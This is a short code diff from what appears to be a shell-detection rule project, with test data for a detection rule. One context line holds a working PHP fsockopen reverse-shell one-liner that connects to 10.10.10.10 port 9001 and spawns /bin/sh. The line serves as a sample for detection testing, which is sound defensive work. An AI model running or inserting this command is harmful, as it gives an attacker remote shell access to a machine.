@@ -40,6 +40,8 @@ def shipped() -> Ruleset:
     from shellsieve.model.selection import Selection
 
     return build([PATTERNS], None, Selection("low", (), tuple(sorted(PAYLOAD_RULES))))[1]
+
+
 EXAMPLE = ROOT / "deploy" / "exceptions.example.yml"
 # the seed reverse shell of rule 100103 (PHP fsockopen), as an Elastic Defend process start
 PHP = ["php", "-r", '$s=fsockopen("10.10.10.10",9001);exec("/bin/sh -i <&3 >&3 2>&3");']
